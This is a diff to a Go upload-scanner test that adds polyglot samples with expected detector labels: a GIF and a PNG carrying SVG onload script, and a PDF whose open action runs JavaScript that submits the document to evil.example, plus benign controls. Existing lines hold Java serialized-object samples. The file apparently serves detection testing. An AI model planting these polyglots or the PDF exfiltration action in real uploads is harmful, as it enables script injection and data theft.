@@ -54,6 +54,14 @@ func TestUploadContent(t *testing.T) {
 		{"photo.jpg", "image/jpeg", "\xff\xd8\xff\xe1<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:Description tiff:Orientation=\"1\" exif:PixelXDimension=\"640\"/></x:xmpmeta>\xff\xd9", ""},
 		{"page.html", "text/html", "<html><body><script>init()</script></body></html>", ""},
 
+		// A GIF that is also a script; an SVG handler in an image; a PDF
+		// whose opening action sends the document away.
+		{"pixel.gif", "image/gif", "GIF89a/*<svg/onload=alert(1)>*/=alert(document.domain)//;", "upload-image-markup"},
+		{"a.png", "image/png", "\x89PNG\r\n\x1a\n<svg/onload=alert(1)>", "upload-image-markup"},
+		{"invoice.pdf", "application/pdf", "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>\nendobj\n3 0 obj\n<< /S /JavaScript /JS (app.alert(1); this.submitForm('https://evil.example/')) >>\nendobj", "upload-pdf-script"},
+		{"form.pdf", "application/pdf", "%PDF-1.7\n1 0 obj\n<< /AA << /C << /S /JavaScript /JS (event.value = this.getField('a').value * 2;) >> >> >>\nendobj", ""},
+		{"logo.gif", "image/gif", "GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff", ""},
+
 		// Serialized objects, as decoders that import the file read them.
 		{"backup.ser", "application/octet-stream", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==", "deserialization-object"},
 		{"state.bin", "application/octet-stream", "\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1", "deserialization-object"},
